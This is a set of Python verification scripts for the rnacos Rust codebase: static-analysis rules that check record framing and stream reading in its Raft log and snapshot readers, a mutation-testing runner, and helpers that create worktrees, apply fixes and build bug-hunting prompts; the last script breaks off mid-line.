    b = ck.body(PU + 'MessageBufReader::append_next_buf', 'R20b')
    if b:
        w = set(f for (_, f, _, _) in b.field_writes())
        ck.require({'start', 'end'} <= w, 'R20b', 'append_next_buf:rebase', b.where(),
                   'append_next_buf no longer updates both start and end (writes %s)' % sorted(w), 'writes start,end')
        ck.require(len(b.calls('move_data_to_start')) >= 1 and len(b.calls('copy_data')) >= 1, 'R20b',
                   'append_next_buf:move+copy', b.where(), 'append_next_buf no longer compacts and copies the new chunk')
    b = ck.body(PU + 'MessageBufReader::next_message_vec', 'R20b')
    if b:
        # the returned slice length is next_len = prefix bytes + decoded length; start advances by the same next_len
        t = Taint(b, call_src=lambda t: (t.get('f') or {}).get('d', '').endswith('read_varint64'))
        wr = [(f, s) for (_, f, _, s) in b.field_writes() if f == 'next_len']
        okn = any(t.op_tainted(x) for (f, s) in wr for x in __import__('rn.facts', fromlist=['rv_operands']).rv_operands(s['rv']))
        ck.require(okn, 'R20b', 'next_message_vec:next_len<-varint', b.where(),
                   'next_len is no longer derived from the decoded varint length', 'next_len tainted by read_varint64')
        # completeness test: Some(..) only under (end-start >= next_len)
        somes = [(i, j, s) for (i, j, s) in b.aggregates('std::option::Option', 'Some') if isinstance(s['d'], int) and s['d'] == 0]
        okc = bool(somes)
        for (i, j, s) in somes:
            atoms = cfg.guard_atoms(b, i)
            if not any(a[0] == 'cmp' and a[1] in ('Ge', 'Le', 'Lt', 'Gt') and
                       ('next_len' in str(cfg.strip_calls(b, a[2]).get('fields')) or 'next_len' in str(cfg.strip_calls(b, a[3]).get('fields')))
                       for a in atoms):
                okc = False
        ck.require(okc, 'R20b', 'next_message_vec:complete-before-yield', b.where(),
                   'a message is handed out without checking that end-start covers next_len', 'guarded')


def is_empty_table(ck, fb, rule):
    """MessageBufReader::is_empty is the end-of-stream test of every chunked consumer. It depends on its state only through the
    ordering of start/end/len and a zero test of one byte, so interpreting the compiled body on every (len<=3, 0<=start<=end<=len,
    bytes in {0,1}) state covers every behaviour class. Expected: true exactly when start<end and buf[start]==0."""
    b = ck.body(PU + 'MessageBufReader::is_empty', rule)
    if not b:
        return
    ck.analysed(b)
    adt = fb.adts.get(PU + 'MessageBufReader')
    names = [f[0] for f in adt['variants'][0]['fields']] if adt else []
    if not ck.require({'buf', 'start', 'end'} <= set(names), rule, 'is_empty:fields', b.where(),
                      'MessageBufReader no longer has buf/start/end fields (%s)' % names, 'buf,start,end'):
        return
    n = 0
    wrong = {}
    import itertools
    for ln in range(0, 4):
        for bits in itertools.product((0, 1), repeat=ln):
            for end in range(0, ln + 1):
                for start in range(0, end + 1):
                    vals = {'buf': VecV([BV.const(8, x) for x in bits]), 'start': BV.const(64, start), 'end': BV.const(64, end)}
                    fields = [vals.get(nm, BV.const(64, 0)) for nm in names]
                    selfv = Adt('MessageBufReader', 'MessageBufReader', fields, names)
                    cell = type('F', (), {})()
                    cell.locals = [selfv]
                    cell.body = None
                    want = start < end and bits[start] == 0
                    n += 1
                    try:
                        r = Interp(fb).call_body(b, [Ref(frame=cell, place=0)], 0)
                        got = bool(r.value())
                    except Panic as e:
                        got = 'panic: %s' % e
                    except (Undecided, Unsupported) as e:
                        wrong.setdefault('undecided', 'cannot interpret is_empty: %s' % e)
                        continue
                    if got != want:
                        kind = 'drained-buffer' if start >= end else ('nonzero-byte' if bits[start] else 'zero-byte')
                        wrong.setdefault(kind, 'is_empty(buf=%s,start=%d,end=%d) = %s, expected %s' % (list(bits), start, end, got, want))
    ck.floor(rule, 'is_empty states interpreted', n, 50)
    for kind in ('drained-buffer', 'nonzero-byte', 'zero-byte', 'undecided'):
        ck.require(kind not in wrong, rule, 'is_empty:' + kind, b.where(),
                   (wrong.get(kind) or '') + ' - the end-of-stream test must be "a valid byte exists and it is the zero length": a drained '
                   'chunk (record ending exactly on a read-chunk boundary) is not the end of the stream, and a stale byte behind `end` is not data',
                   'true iff start<end && buf[start]==0')


def r20e(ck, fb):
    ck.rule('R20e', 'MessageBufReader::is_empty (end-of-stream test of every chunked consumer) is true exactly when a valid byte exists '
                    '(start<end) and it is zero; decided by interpreting the compiled body on every state with len<=3 (the function depends '
                    'on its state only through orderings and one zero test, so this covers every behaviour class)')
    is_empty_table(ck, fb, 'R20e')


def r20c(ck, fb):
    ck.rule('R20c', 'FileMessageReader::read_len: zero decoded length (and zero bytes read) is an error = end of stream; the returned '
                    'length is decoded_len + inner_sizeof_varint(decoded_len)')
    b = ck.main(PU + 'FileMessageReader::read_len', 'R20c')
    if not b:
        return
    rd = b.calls('read_varint64$')
    sz = b.calls('inner_sizeof_varint$')
    ck.floor('R20c', 'read_varint64 calls in read_len', len(rd), 1)
    ck.floor('R20c', 'inner_sizeof_varint calls in read_len', len(sz), 1)
    if not rd or not sz:
        return
    t = Taint(b, call_src=lambda t: (t.get('f') or {}).get('d', '').endswith('read_varint64'))
    ck.require(all(t.op_tainted(s.args[0]) for s in sz), 'R20c', 'read_len:size-of-same-len', sz[0].where(),
               'inner_sizeof_varint is not applied to the decoded length', 'size of decoded len')
    # Ok(..) result tainted by both
    oks = [(i, j, s) for (i, j, s) in b.aggregates('std::result::Result', 'Ok')]
    t2 = Taint(b, call_src=lambda t: (t.get('f') or {}).get('d', '').endswith('inner_sizeof_varint'))
    good = any(t.op_tainted(s['rv']['ops'][0]) and t2.op_tainted(s['rv']['ops'][0]) for (i, j, s) in oks)
    ck.require(good, 'R20c', 'read_len:sum', b.where(), 'Ok(..) of read_len is not len + sizeof(len)', 'Ok(len+sizeof(len))')
    # Ok edge guarded by len != 0
    okz = False
    for (i, j, s) in oks:
        for a in cfg.guard_atoms(b, i):
            if a[0] == 'cmp' and a[1] in ('Eq', 'Ne'):
                for side, other in ((a[2], a[3]), (a[3], a[2])):
                    if other['k'] == 'const' and str(other['c'].get('v')) == '0':
                        pol_ok = (a[1] == 'Eq' and a[4] is False) or (a[1] == 'Ne' and a[4] is True)
                        # side must be the decoded length
                        if pol_ok and side['k'] in ('multi', 'unknown', 'place', 'call', 'yield'):
                            okz = okz or True
    ck.require(okz, 'R20c', 'read_len:zero-is-end', b.where(),
               'read_len no longer refuses a zero length (end marker) before returning Ok', 'Ok only when len != 0')
    # the peek is undone exactly: a short read near the end of the file returns fewer than 10 bytes, so the file position must be restored
    # to the absolute record start (SeekFrom::Start(self.start)), not stepped back by the buffer size
    sk = b.calls(r'AsyncSeekExt::seek$|::seek$')
    ck.floor('R20c', 'seek in read_len', len(sk), 1)
    okb = False
    for s in sk:
        a = util_agg(b, s.args[1]) if len(s.args) > 1 else None
        if a is None:
            continue
        if a.get('variant') == 'Start' and any((cfg.origin_fields(b, o) or [])[-1:] == ['start'] for o in a['ops']):
            if all(cfg.must_pass_before_return(b, x.bb, {s.bb}, returns=[i for (i, j, st) in oks]) for x in rd):
                okb = True
    ck.require(okb, 'R20c', 'read_len:rewinds-to-record-start', b.where(),
               'after peeking the length prefix the file position is not restored with SeekFrom::Start(self.start) on the way to Ok: a relative step '
               'back by the buffer size is wrong whenever the peek was short (a record that starts fewer than 10 bytes before the end of the file), '
               'the body is then read from the tail of the previous record', 'SeekFrom::Start(self.start) before Ok')


CONSUMERS = [
    # (function, minimum next_message_vec sites, minimum append_next_buf sites)
    ('rnacos::raft::filestore::raftlog::LogInnerManager::move_to_index_by_count', 1, 1),
    ('rnacos::raft::filestore::raftlog::LogInnerManager::read_records', 1, 1),
    ('rnacos::raft::filestore::raftlog::LogInnerManager::load_record', 1, 1),
    ('rnacos::raft::filestore::raftsnapshot::SnapshotReader::read_record', 1, 1),
]


def r20d(ck, fb):
    ck.rule('R20d', 'each stream consumer loop feeds every chunk it reads into append_next_buf (with the slice [..read_len]) and '
                    'drains next_message_vec in an inner loop before reading the next chunk; it leaves the outer loop only on '
                    'read_len == 0, a reached count, or the reader reporting the end marker')
    # discover all users of MessageBufReader::next_message_vec
    users = set()
    for b in fb.bodies.values():
        if b.calls(PU.replace('::', '::') + 'MessageBufReader::next_message_vec$'):
            if '::tests::' in b.name or b.name.startswith(PU):
                continue
            users.add(b.name)
    ck.floor('R20d', 'consumers of next_message_vec', len(users), 6)
    ck.extra['stream_consumers'] = sorted(users)
    for name in sorted(users):
        b = fb.get(name)
        ck.analysed(b)
        nm = b.calls('MessageBufReader::next_message_vec$')
        ap = b.calls('MessageBufReader::append_next_buf$')
        key = name
        if not ap:
            # reader was fed elsewhere (constructor with new_with_data / a sibling method): nothing to alternate here
            ck.info('R20d', '%s drains a reader that is fed elsewhere' % name)
            ck.ok('R20d', key + ':drain-only', b.where())
            continue
        ok = True
        why = ''
        reads = [s.bb for s in b.calls(r'(AsyncReadExt|Read)::read$|::read_buf$')]
        for a in ap:
            nxt = b.blocks[a.bb]['t'].get('t')
            in_loop = nxt is not None and a.bb in cfg.reach_from(b, [nxt])
            # after append, a next_message_vec site must be passed before the next file read and before any return
            r = cfg.reach_from(b, [nxt], blocked_blocks=[s.bb for s in nm])
            if any(x in r for x in reads):
                ok = False
                why = 'a chunk appended at %s can be followed by another read without draining next_message_vec' % a.where()
            # the appended slice is bounded by the number of bytes read
            d2 = cfg.strip_calls(b, cfg.describe_operand(b, a.args[1]))
            bounded = False
            if d2['k'] == 'call':
                for arg in d2['term']['args']:
                    dd = cfg.describe_operand(b, arg)
                    if dd['k'] == 'agg' and 'Range' in dd['rv'].get('adt', ''):
                        t = Taint(b, call_src=lambda t: bool(re.search(r'(AsyncReadExt|Read)::read$', (t.get('f') or {}).get('d', ''))))
                        bounded = any(t.op_tainted(o) for o in dd['rv']['ops'])
            if not bounded:
                ok = False
                why = 'append_next_buf at %s is not given a slice bounded by the number of bytes actually read' % a.where()
            if in_loop:
                # the drain must itself be a loop or the enclosing loop must come back to it before reading again (checked above)
                pass
        ck.require(ok, 'R20d', key + ':alternation', b.where(), why, 'append[..read_len] -> next_message_vec before next read/return')


READ_RX = r'AsyncReadExt::read$|std::io::Read::read$|AsyncReadExt::read_buf$'


def _on_cycle(b, bb):
    nxt = b.blocks[bb]['t'].get('t')
    return nxt is not None and bb in cfg.reach_from(b, [nxt])


def _data_sized(b, op):
    """the operand is (a reference / slice of) a vec![0; n] with n not a literal"""
    d = cfg.strip_calls(b, cfg.describe_operand(b, op))
    seen = 0
    while d.get('k') == 'call' and seen < 6:
        f = (d['term'].get('f') or {}).get('d', '')
        if f.endswith('vec::from_elem'):
            n = cfg.describe_operand(b, d['term']['args'][1])
            return n.get('k') != 'const'
        if f.endswith('::with_capacity') and d['term'].get('args'):
            # Vec::with_capacity(len) handed to read_buf: the capacity is the number of bytes asked for
            n = cfg.describe_operand(b, d['term']['args'][0])
            return n.get('k') != 'const'
        if not d['term'].get('args'):
            break
        d = cfg.strip_calls(b, cfg.describe_operand(b, d['term']['args'][0]))
        seen += 1
    return False


def r20f(ck, fb):
    ck.rule('R20f', 'a record body is read completely: wherever the store reads into a buffer whose length comes from the data (vec![0; len] with a '
                    'decoded or requested length), the read is repeated until the buffer is full (the read call lies on a loop, in the function or in '
                    'the helper the buffer is handed to) or is a read_exact. One read may return fewer bytes than asked for - tokio::fs::File returns '
                    'at most 2 MiB per call - so a single read followed by "not enough" drops that record and, in the consumers that stop at the '
                    'first error, every record after it')
    n = 0
    for b in sorted(fb.bodies.values(), key=lambda x: x.name):
        if '::tests::' in b.name or not b.name.startswith(('rnacos::', '<rnacos::')):
            continue
        for s0 in b.sites:
            if not any(_data_sized(b, a) for a in s0.args[:3]):
                continue
            names = [x for x in (s0.callee, s0.full, s0.resolved, s0.rfull) if x]
            ok = None
            if any(re.search(READ_RX, x) for x in names):
                ok = _on_cycle(b, s0.bb)
            elif any(x.endswith('read_exact') for x in names):
                ok = True
            else:
                t = util._local_target(b, s0)
                if t is None:
                    continue
                inner = []
                for x in util.region(fb, t, 1):
                    inner += [(x, r0) for r0 in x.calls(READ_RX)] + [(x, r0) for r0 in x.calls(r'read_exact$')]
                if not inner:
                    continue
                ok = all(_on_cycle(x, r0.bb) or (r0.callee or '').endswith('read_exact') for (x, r0) in inner)
            n += 1
            ck.analysed(b)
            ck.require(ok, 'R20f', 'read-until-full:%s' % b.name.replace('::{closure#0}', '').split('rnacos::')[-1], s0.where(),
                       'a buffer sized from the data is filled with one read call; a short read (over 2 MiB with tokio::fs::File) is reported as '
                       '"not enough" although the bytes are in the file: the record, and in data_to_sqlite every record after it, is dropped',
                       'repeated until full')
    ck.floor('R20f', 'reads into data-sized buffers', n, 2)


def r20g(ck, fb):
    from rn.facts import pl_local
    ck.rule('R20g', 'an incomplete record means "read on", for the first record of a stream as for any other: in every consumer that feeds chunks into '
                    'MessageBufReader and asks next_message_vec, the outcome None (record not complete yet) leads back to a read of the next chunk; '
                    'it is not an error by itself. The snapshot header is an ordinary record whose size grows with the member and address lists')
    n = 0
    for b in sorted(fb.bodies.values(), key=lambda x: x.name):
        if '::tests::' in b.name or b.name.startswith(PU):
            continue
        nm = b.calls('MessageBufReader::next_message_vec$')
        ap = b.calls('MessageBufReader::append_next_buf$')
        reads = [s0.bb for s0 in b.calls(READ_RX + r'|::read_buf$')]
        if not nm or not ap or not reads:
            continue
        for s0 in nm:
            dst = s0.dst
            none_targets = []
            # the switch on the discriminant of the result
            for i, blk in enumerate(b.blocks):
                t = blk['t']
                if t['k'] != 'switch':
                    continue
                d = cfg.describe_operand(b, t['discr'])
                if d.get('k') != 'discr':
                    continue
                if pl_local(d['pl']) != dst:
                    continue
                names = dict((v, nme) for v, nme in (d.get('variants') or []))
                tested = [v for v, _ in t['targets']]
                for v, tb in t['targets']:
                    if names.get(v) == 'None':
                        none_targets.append(tb)
                if 'None' in [nme for v, nme in (d.get('variants') or []) if v not in tested]:
                    none_targets.append(t['otherwise'])
            if not none_targets:
                continue
            n += 1
            ck.analysed(b)
            r = cfg.reach_from(b, none_targets)
            ck.require(any(x in r for x in reads) or any(x in none_targets for x in reads), 'R20g',
                       'incomplete-record-reads-on:%s' % b.name.replace('::{closure#0}', '').split('rnacos::')[-1], s0.where(),
                       'when next_message_vec answers None after the chunk that was read, no further chunk is read: a first record longer than the '
                       'chunk (a snapshot header with some 15-35 node addresses exceeds 1024 bytes) makes the whole stream unreadable',
                       'None leads back to a read')
    ck.floor('R20g', 'chunk consumers with a None outcome', n, 5)


def r20h(ck, fb, R='R20h'):
    ck.rule(R, 'appending a chunk keeps the unread bytes: every path through MessageBufReader::append_next_buf carries the bytes of [start, end) to the '
               'front (move_data_to_start / copy_within / drain) before the new chunk is copied behind them, or has established start == end; `end` '
               'is never set to a literal. Whether a record is "pending" (next_len) says nothing about unread bytes: a length prefix that is split by '
               'the chunk boundary is unread and not pending, dropping it mis-frames every record that follows')
    b = ck.body(PU + 'MessageBufReader::append_next_buf', R)
    if not b:
        return
    carry = [s for x in util.region(fb, b) for s in x.calls(r'protobuf_utils::move_data_to_start$|slice::<impl \[T\]>::copy_within|Vec::<T, A>::drain$|ptr::copy$')
             if x is b] + [s for s in b.sites if util._local_target(b, s) is not None and
                           any(y.calls(r'protobuf_utils::move_data_to_start$|slice::<impl \[T\]>::copy_within|Vec::<T, A>::drain$') for y in util.region(fb, util._local_target(b, s), 1))]
    ck.floor(R, 'carry-to-front steps in append_next_buf', len(carry), 1)
    esc = set()
    for (s0, d0, lab0, t0) in cfg.switch_edges(b):
        desc = cfg.describe_operand(b, t0['discr'])
        if desc['k'] == 'bin' and desc['op'] in ('Eq', 'Ne', 'Ge', 'Le'):
            fa = cfg.origin_fields(b, desc['a'])[-1:] + cfg.origin_fields(b, desc['b'])[-1:]
            if sorted(fa) == ['end', 'start']:
                pol = cfg.edge_polarity(t0, lab0)
                if (desc['op'] in ('Eq', 'Ge') and pol is True) or (desc['op'] == 'Ne' and pol is False):
                    esc.add((s0, d0, lab0))
    free = cfg.reach_from(b, [0], blocked_blocks={s.bb for s in carry}, blocked_edges=esc)
    leak = [r for r in b.return_blocks() if r in free]
    ck.require(not leak, R, 'append_next_buf:unread-bytes-carried', b.where(leak[0]) if leak else b.where(),
               'a chunk can be appended without the unread bytes of the buffer having been carried to the front (and without start == end being '
               'known): bytes of a record - or of a length prefix cut by the chunk boundary - are dropped, the decoded records depend on the chunking',
               'carried on every path')
    lit = [(bb, st) for (o, f, bb, st) in b.field_writes() if f == 'end' and st['rv']['k'] == 'use' and 'c' in st['rv']['op']]
    ck.require(not lit, R, 'append_next_buf:end-not-literal', b.where(lit[0][0]) if lit else b.where(),
               '`end` is set to a literal in append_next_buf: whatever lay between start and end is forgotten')


def r20i(ck, fb, R='R20i'):
    ck.rule(R, '"reading stops at the first zero length and never earlier": FileMessageReader::read_len peeks up to 10 bytes for the length prefix; the number '
               'of bytes the peek returned decides "end of stream" only when it is ZERO. A stream whose last record (prefix + body) is shorter than the '
               'peek window - a catalogue file that holds term and vote only, 11 to 17 bytes - returns fewer than 10 bytes: any test of the count other than '
               '== 0 / != 0 that leads to an error reports that record as the end (the store then does not reopen)')
    b = ck.main(PU + 'FileMessageReader::read_len', R)
    if not b:
        return
    rd = b.calls(r'AsyncReadExt>::read$|AsyncReadExt::read$|::read_full$|AsyncReadExt>::read_buf$|AsyncReadExt>::read_exact$')
    ck.floor(R, 'peek reads in read_len', len(rd), 1)
    t = Taint(b, call_src=lambda term: re.search(r'AsyncReadExt>::read$|AsyncReadExt::read$|::read_full$|read_buf$|read_exact$', cfg.callee_name(term) or '') is not None)
    errs = {i for (i, j, st) in b.aggregates(r'^std::result::Result$', 'Err')}
    n = 0
    for (i, j, st) in b.stmts():
        rv = st.get('rv')
        if not rv or rv['k'] != 'bin' or rv['op'] not in ('Eq', 'Ne', 'Lt', 'Le', 'Gt', 'Ge'):
            continue
        ta, tb_ = t.op_tainted(rv['a']), t.op_tainted(rv['b'])
        if not (ta or tb_):
            continue
        # only comparisons of the COUNT (usize), not of the decoded length
        other = rv['b'] if ta else rv['a']
        from rn.facts import op_const
        c = op_const(other)
        ty = (c or {}).get('ty')
        if ty is not None and ty != 'usize':
            continue
        d = st.get('d')
        if not isinstance(d, int):
            continue
        # does one of its edges lead to an error return without passing the decode?
        n += 1
        zero = c is not None and str(c.get('v')) == '0' and rv['op'] in ('Eq', 'Ne')
        leads = False
        for (s0, d0, lab0, t0) in cfg.switch_edges(b):
            dd = cfg.describe_operand(b, t0['discr'])
            if dd['k'] == 'bin' and dd.get('bb') == i and s0 == i or (dd['k'] == 'bin' and dd.get('bb') == i):
                r = cfg.reach_from(b, [d0], blocked_blocks={x.bb for x in b.calls(r'read_varint64$')})
                if errs & r:
                    leads = True
        ck.require(zero or not leads, R, 'read_len:end-of-stream-only-for-zero-bytes:%s' % rv['op'], b.where(i),
                   'read_len reports an error (end of stream) depending on `%s` of the byte count of the peek with a non-zero bound: a last record shorter than '
                   'the 10-byte window is never read' % rv['op'], 'count tested against 0 only')
    ck.floor(R, 'tests of the peek byte count', n, 1)


class _ItemLocals:
    def __init__(self, vec, idx):
        self.vec, self.idx = vec, idx

    def __getitem__(self, k):
        return self.vec.items[self.idx]

    def __setitem__(self, k, v):
        self.vec.items[self.idx] = v


class _ItemFrame:
    """a write-through cell: element idx of a vector"""
    def __init__(self, vec, idx):
        self.locals = _ItemLocals(vec, idx)
        self.body = None


class _View:
    def __init__(self, vec, lo, hi):
        self.vec, self.lo, self.hi = vec, lo, hi


class _It:
    def __init__(self, view):
        self.view, self.pos = view, view.lo


class _Zip:
    def __init__(self, a, b):
        self.a, self.b = a, b


def r20j(ck, fb, R='R20j'):
    from rn.absint import Interp, Ref, VecV, BV, Adt, Tup, UNIT, Unsupported, Undecided, Panic
    ck.rule(R, 'the carry-to-front keeps every unread byte: by interpretation of the compiled move_data_to_start(buf, start) over every buffer '
               'length 0..7 and every start 0..len with distinct bytes: afterwards buf[i] == old buf[start + i] for every i < len - start (grid; '
               'the body is a copy loop whose behaviour depends on len and start only through their order). Index loops over ranges, '
               'copy_within, and split_at_mut / iter / iter_mut / zip pipelines are modelled; any other operation leaves the obligation undecided '
               '(fails closed, names the operation). A zip of the two halves stops at the SHORTER one: with more unread bytes than consumed ones '
               '(a 100-byte record followed by a 2000-byte one, 1024-byte chunks) the tail of the pending record is not moved and its body is '
               'decoded from stale bytes')
    b = ck.body(PU + 'move_data_to_start', R)
    if not b:
        return

    def deref(i, v):
        for _ in range(8):
            if isinstance(v, Ref):
                v = v.obj if v.obj is not None else i.read_place(v.frame, v.place)
            else:
                break
        return v

    def view(i, v):
        v = deref(i, v)
        if isinstance(v, VecV):
            return _View(v, 0, len(v.items))
        if isinstance(v, _View):
            return v
        raise Unsupported('slice operation on %r' % (v,))

    def m_len(i, fr, t, args):
        w = view(i, args[0])
        return BV.const(64, w.hi - w.lo)

    def m_into_iter(i, fr, t, args):
        v = deref(i, args[0])
        if isinstance(v, (VecV, _View)):
            return _It(view(i, v))
        return args[0]

    def m_range_next(i, fr, t, args):
        rng = deref(i, args[0])
        if isinstance(rng, _It):
            return m_it_next(i, fr, t, args)
        if isinstance(rng, _Zip):
            return m_zip_next(i, fr, t, args)
        if not isinstance(rng, Adt):
            raise Unsupported('next() of %r' % (rng,))
        st, en = rng.fields[rng.names.index('start')], rng.fields[rng.names.index('end')]
        if st.value() < en.value():
            rng.fields[rng.names.index('start')] = BV.const(64, st.value() + 1)
            return Adt('std::option::Option', 'Some', [st], ['0'])
        return Adt('std::option::Option', 'None', [])

    def item_ref(w, k):
        return Ref(frame=_ItemFrame(w.vec, k), place=0)

    def m_it_next(i, fr, t, args):
        it = deref(i, args[0])
        if it.pos < it.view.hi:
            it.pos += 1
            return Adt('std::option::Option', 'Some', [item_ref(it.view, it.pos - 1)], ['0'])
        return Adt('std::option::Option', 'None', [])

    def m_zip_next(i, fr, t, args):
        z = deref(i, args[0])
        if z.a.pos < z.a.view.hi and z.b.pos < z.b.view.hi:
            z.a.pos += 1
            z.b.pos += 1
            return Adt('std::option::Option', 'Some', [Tup([item_ref(z.a.view, z.a.pos - 1), item_ref(z.b.view, z.b.pos - 1)])], ['0'])
        return Adt('std::option::Option', 'None', [])

    def m_split(i, fr, t, args):
        w = view(i, args[0])
        mid = args[1].value()
        if mid > w.hi - w.lo:
            raise Panic('split_at_mut: mid > len')
        return Tup([Ref(obj=_View(w.vec, w.lo, w.lo + mid)), Ref(obj=_View(w.vec, w.lo + mid, w.hi))])

    def m_iter(i, fr, t, args):
        return _It(view(i, args[0]))

    def m_zip(i, fr, t, args):
        a, b2 = deref(i, args[0]), deref(i, args[1])
        if isinstance(b2, (VecV, _View)):
            b2 = _It(view(i, b2))
        if not (isinstance(a, _It) and isinstance(b2, _It)):
            raise Unsupported('zip of %r and %r' % (a, b2))
        return _Zip(a, b2)

    def m_copy_within(i, fr, t, args):
        w = view(i, args[0])
        rng = deref(i, args[1])
        dest = args[2].value()
        n = w.hi - w.lo
        if isinstance(rng, Adt) and 'start' in rng.names and 'end' in rng.names:
            lo, hi = rng.fields[rng.names.index('start')].value(), rng.fields[rng.names.index('end')].value()
        elif isinstance(rng, Adt) and rng.names == ['start']:
            lo, hi = rng.fields[0].value(), n
        else:
            raise Unsupported('copy_within range %r' % (rng,))
        if lo > hi or hi > n or dest + (hi - lo) > n:
            raise Panic('copy_within out of bounds')
        tmp = [w.vec.items[w.lo + k] for k in range(lo, hi)]
        for k, x in enumerate(tmp):
            w.vec.items[w.lo + dest + k] = x
        return UNIT
    models = {}
    for s0 in [s1 for x in util.region(fb, b, 1) for s1 in x.sites]:
        nm = s0.resolved or s0.callee or ''
        if re.search(r'slice::<impl \[T\]>::len$', nm):
            models[nm] = m_len
        elif re.search(r'IntoIterator>::into_iter$|IntoIterator::into_iter$', nm):
            models[nm] = m_into_iter
        elif re.search(r'Iterator>::next$|Iterator::next$|::next$', nm):
            models[nm] = m_range_next
        elif re.search(r'slice::<impl \[T\]>::split_at_mut$|slice::<impl \[T\]>::split_at$', nm):
            models[nm] = m_split
        elif re.search(r'slice::<impl \[T\]>::(iter|iter_mut)$', nm):
            models[nm] = m_iter
        elif re.search(r'Iterator>::zip$|Iterator::zip$', nm):
            models[nm] = m_zip
        elif re.search(r'slice::<impl \[T\]>::copy_within$', nm):
            models[nm] = m_copy_within
        if (s0.callee or '') != nm and nm in models:
            models[s0.callee] = models[nm]
    bad = None
    n = 0
    for ln in range(0, 8):
        for st in range(0, ln + 1):
            n += 1
            buf = VecV([BV.const(8, 10 + k) for k in range(ln)])
            try:
                Interp(fb, call_models=models).call_body(b, [Ref(obj=buf), BV.const(64, st)], 0)
            except (Unsupported, Undecided, Panic, AttributeError, KeyError, IndexError, TypeError) as e:
                bad = bad or ('len %d, start %d: not decided (%s: %s)' % (ln, st, type(e).__name__, str(e)[:120]))
                continue
            got = [x.value() if isinstance(x, BV) and x.is_const() else None for x in buf.items]
            want = [10 + st + k for k in range(ln - st)]
            if got[:ln - st] != want:
                bad = bad or ('len %d, start %d: the front of the buffer is %s, the unread bytes were %s' % (ln, st, got[:ln - st], want))
    ck.extra['move_data_to_start_grid_cases'] = n
    ck.require(bad is None, R, 'move_data_to_start:moves-every-unread-byte', b.where(),
               'move_data_to_start does not carry all of buf[start..] to the front - %s: a record that crosses a read-chunk boundary is decoded from '
               'stale bytes whenever more bytes are pending than were consumed before it (the decoded records depend on the chunking)' % bad,
               '%d (len, start) cases' % n)
