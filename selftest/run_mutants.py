#!/usr/bin/env python3
import sys, os, subprocess
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from mutants import M
REPO = '/repo'
import fcntl
_lock = open('/tmp/verif-repo.lock', 'w')
fcntl.flock(_lock, fcntl.LOCK_EX)   # one user of /repo's working tree at a time
sel = sys.argv[1] if len(sys.argv) > 1 else ''
res = []
for (name, prop, f, old, new, rule) in M:
    if sel and sel not in name:
        continue
    p = os.path.join(REPO, f)
    s = open(p).read()
    if s.count(old) != 1:
        print('%-28s SKIP old occurs %d times' % (name, s.count(old)))
        res.append((name, 'skip'))
        continue
    try:
        open(p, 'w').write(s.replace(old, new))
        r = subprocess.run(['/verif/check', prop, '--no-write'], capture_output=True, text=True)
        out = r.stdout
        fired = [l for l in out.splitlines() if l.startswith('R') and ':' in l.split(' ')[0]]
        viol = [l for l in out.splitlines() if l.startswith('VIOLATION')]
        hit = any(l.startswith(rule) for l in fired)
        comp = 'extraction failed' in out
        status = 'COMPILE-FAIL' if comp else ('CAUGHT' if (hit and viol) else ('OTHER-RULE' if viol else 'MISSED'))
        print('%-28s %-12s %s' % (name, status, '; '.join(l.split(' at ')[0] for l in fired)[:200]))
        res.append((name, status))
    finally:
        open(p, 'w').write(s)
print('summary:', {k: sum(1 for _, s in res if s == k) for k in set(s for _, s in res)})
