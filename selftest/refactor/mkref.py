#!/usr/bin/env python3
"""mkref.py <name> <area text file> : worktree /tmp/wt/<name> + prompt /tmp/wt/prompt_<name>.txt"""
import sys, os, subprocess
HERE = os.path.dirname(os.path.abspath(__file__))
name, areaf = sys.argv[1:3]
wt = '/tmp/wt/' + name
os.makedirs('/tmp/wt', exist_ok=True)
if not os.path.isdir(wt):
    subprocess.check_call(['git', '-C', '/repo', 'worktree', 'add', '--detach', '-q', wt, 'HEAD'])
    subprocess.check_call(['cp', '/repo/Cargo.lock', wt + '/'])
    subprocess.check_call(['cp', '-a', '/repo/target', wt + '/target'])
s = open(os.path.join(HERE, 'REFACTOR_PROMPT.txt')).read().replace('{WT}', wt).replace('{AREA}', open(areaf).read())
open('/tmp/wt/prompt_%s.txt' % name, 'w').write(s)
print(name, len(s))
