#!/bin/bash
# usage: applyfix.sh <fix.diff> <commit message file>
set -e
cd /repo
test -z "$(git status --porcelain)" || { echo "repo dirty"; exit 2; }
git apply "$1"
CARGO_NET_OFFLINE=true cargo test --offline --lib 2>&1 | grep -E "^test result|FAILED|failed" | head
git add -A
git commit -q -F "$2"
git log --oneline | head -1
