import json,sys,re,os,subprocess
props={}
for l in open('/verif/properties.jsonl'):
    d=json.loads(l); props[d['id']]=d
known={}
for l in open('/verif/KNOWN_FINDINGS.txt'):
    l=l.strip()
    m=re.match(r'(fixed|known): property=(C\d+) (?:[0-9a-f]{7} )?key=.*? \| (.*)$', l)
    if not m: continue
    kind,pid,txt=m.groups()
    txt=re.sub(r'\(findings/[^)]*\)','',txt)
    txt=re.sub(r'; (found|observed|noted|pointed)[^;]*$','',txt)
    known.setdefault(pid,[]).append(('already fixed: ' if kind=='fixed' else 'STILL PRESENT (known, do not report again): ')+txt[:420])
HERE=os.path.dirname(os.path.abspath(__file__))
tpl=open(os.path.join(HERE,'HUNT_PROMPT.txt')).read()
os.makedirs('/tmp/wt',exist_ok=True)
EXTRA_KNOWN={
 'C11': ['examined earlier and NOT counted as a defect (do not report again): get_instance_page pages over the subscriber view (drops disabled instances) while the service row counts the raw registry'],
 'C12': ['examined earlier and NOT counted as a defect (do not report again): a gRPC BatchInstanceRequest does not replace the connection\'s previous batch'],
 'C09': ['STILL PRESENT (known, do not report again): a snapshot installed on a running follower only inserts records, configs removed on the leader before the snapshot keep being served by that follower until it restarts'],
 'C07': ['STILL PRESENT (known, do not report again): a snapshot installed on a running follower only inserts records (no component is reset)'],
 'C01': ['STILL PRESENT (known, do not report again): a snapshot installed on a running follower only inserts records (no component is reset); NamespaceActor::build_snapshot iterates a HashMap so the ORDER of the namespace list changes across a snapshot reload (order is not part of the property)'],
 'C06': ['defects of the dependency async-raft-ext are known (commit without quorum after join, acknowledged entry skipped at leader change, half-old snapshot never sent): look only at code of this repository'],
 'C08': ['defects of the dependency async-raft-ext are known: look only at code of this repository'],
}
for k,v in EXTRA_KNOWN.items(): known.setdefault(k,[]); known[k]+=v
extra = ("\nHint for cluster-level properties: the real binary can be run as a local 3-node cluster if you need an end-to-end demonstration "
